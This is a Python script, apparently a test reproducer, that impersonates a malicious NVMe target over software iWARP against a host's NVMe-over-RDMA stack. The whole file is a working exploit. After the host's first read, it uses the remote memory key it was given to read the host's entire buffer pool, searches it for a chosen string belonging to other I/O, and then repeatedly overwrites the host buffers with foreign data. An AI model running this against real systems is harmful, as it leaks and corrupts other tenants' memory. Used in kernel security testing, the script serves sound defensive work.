# SPDX-License-Identifier: GPL-2.0-only OR Linux-OpenIB
# A hostile NVMe target over software iWARP: nvme_evil.py LOOK-FOR. It prints its port, serves a disk of 1 MiB, and after the
# first read it reads all of the pool whose key it was given, and overwrites it once it has found its own data. It prints what it
# finds there: "own" for what it has served itself, "other" for what it looks for.
import socket, struct, sys, threading, time

OWN, OTHER, ALIEN = b"A" * 64, sys.argv[1].encode(), b"\xee" * 64
BUFFERS, EACH = 64, 131072

class Peer:
    def __init__(self, s):
        self.s, self.sent, self.asked, self.capsule, self.pool, self.seen = s, 0, 0, b"", None, {}
        self.lock, self.own_found = threading.Lock(), threading.Event()

    def get(self, n):
        data = b""
        while len(data) < n:
            more = self.s.recv(n - len(data))
            if not more:
                raise EOFError
            data += more
        return data

    def segment(self, bytes):
        frame = struct.pack(">H", len(bytes)) + bytes
        with self.lock:
            self.s.sendall(frame + b"\0" * (-len(frame) % 4) + b"\0" * 4)

    def reply(self, cid, result=0, status=0):
        self.sent += 1
        self.segment(b"\x41\x43" + struct.pack(">IIII", 0, 0, self.sent, 0) + struct.pack("<QHHHH", result, 0xFFFF, 0, cid, status << 1))

    def put(self, at, key, data):
        for off in range(0, len(data), 8192):
            part = data[off : off + 8192]
            last = off + len(part) == len(data)
            self.segment(bytes([0xC1 if last else 0x81, 0x40]) + struct.pack(">IQ", key, at + off) + part)

    def ask(self, at, key, length, sink):
        self.asked += 1
        self.segment(b"\x41\x41" + struct.pack(">IIII", 0, 1, self.asked, 0) + struct.pack(">IQIIQ", 7, sink << 32, length, key, at))

    def identify(self, cns):
        page = bytearray(4096)
        if cns == 1: # controller
            page[4:24], page[24:64], page[64:72] = b"EVIL".ljust(20), b"evil".ljust(40), b"1".ljust(8)
            struct.pack_into("<HI", page, 78, 1, 0x10400)
            page[77], page[111], page[512], page[513] = 5, 1, 0x66, 0x44
            struct.pack_into("<I", page, 516, 1)
            struct.pack_into("<I", page, 536, 5)
            struct.pack_into("<II", page, 1792, 4, 1)
        elif cns == 0: # namespace
            struct.pack_into("<QQQ", page, 0, 2048, 2048, 2048)
            page[130] = 9
        elif cns == 2:
            struct.pack_into("<I", page, 0, 1)
        elif cns == 3:
            page[0:4], page[4:20] = b"\3\x10\0\0", b"E" * 16
        else:
            return None
        return bytes(page)

    def command(self, c):
        opcode, cid, at, key = c[0], struct.unpack_from("<H", c, 2)[0], *struct.unpack("<Q3xI", c[24:39])
        length = int.from_bytes(c[32:35], "little")
        if opcode == 0x7F and c[4] == 1:
            self.reply(cid, 1)
        elif opcode == 0x7F:
            off = struct.unpack_from("<I", c, 44)[0]
            self.reply(cid, {0: 127 | 1 << 16 | 30 << 24 | 1 << 37, 0x1C: 1}.get(off, 0) if c[4] == 4 else 0)
        elif opcode == 6:
            page = self.identify(c[40])
            if page:
                self.put(at, key, page)
            self.reply(cid, 0, 0 if page else 2)
        elif opcode == 2:
            self.put(at, key, OWN * (length // len(OWN)))
            self.reply(cid)
            if not self.pool:
                self.pool = at // EACH % BUFFERS, at, key
                threading.Thread(target=self.alter, daemon=True).start()
                self.look()
        elif opcode != 0x0C:
            self.reply(cid)

    def where(self, buffer):
        "of a buffer, wherever the pool begins: software iWARP counts from its first byte, others may give addresses"
        own, at, key = self.pool
        first = at % EACH if at < BUFFERS * EACH else at - own * EACH
        return first + buffer * EACH, key

    def look(self):
        "The peer answers 16 at a time; each answer asks for the next"
        for buffer in range(8):
            self.ask(*self.where(buffer), EACH, buffer)

    def alter(self):
        self.own_found.wait()
        try:
            for _ in range(100):
                for buffer in range(BUFFERS):
                    self.put(*self.where(buffer), ALIEN)
                time.sleep(0.02)
        except OSError: pass

    def answered(self, sink, data, last):
        self.seen[sink] = self.seen.get(sink, b"") + data
        if not last:
            return
        got = self.seen.pop(sink)
        for name, what in ("own", OWN), ("other", OTHER):
            if what in got:
                print(name, flush=True)
        if OWN in got:
            self.own_found.set()
        next = (sink + 8) % BUFFERS
        self.ask(*self.where(next), EACH, next)

    def run(self):
        try:
            head = self.get(20)
            self.get(struct.unpack(">H", head[18:])[0])
            priv = struct.pack("<HH28x", 0, 128)
            self.s.sendall(b"MPA ID Rep Frame" + struct.pack(">BBH", 0, 1, len(priv)) + priv)
            while True:
                n = struct.unpack(">H", self.get(2))[0]
                u = self.get(n)
                self.get(-(n + 2) % 4 + 4)
                if u[1] & 15 == 3:
                    self.capsule += u[18:]
                    if u[0] & 0x40:
                        c, self.capsule = self.capsule, b""
                        self.command(c)
                elif u[1] & 15 == 2:
                    self.answered(struct.unpack(">Q", u[6:14])[0] >> 32, u[14:], u[0] & 0x40)
                elif u[1] & 15 == 7:
                    print("terminated", flush=True)
                    return
        except (EOFError, OSError): pass

listener = socket.create_server(("127.0.0.1", 0))
print(listener.getsockname()[1], flush=True)
while True:
    s = listener.accept()[0]
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    threading.Thread(target=Peer(s).run, daemon=True).start()
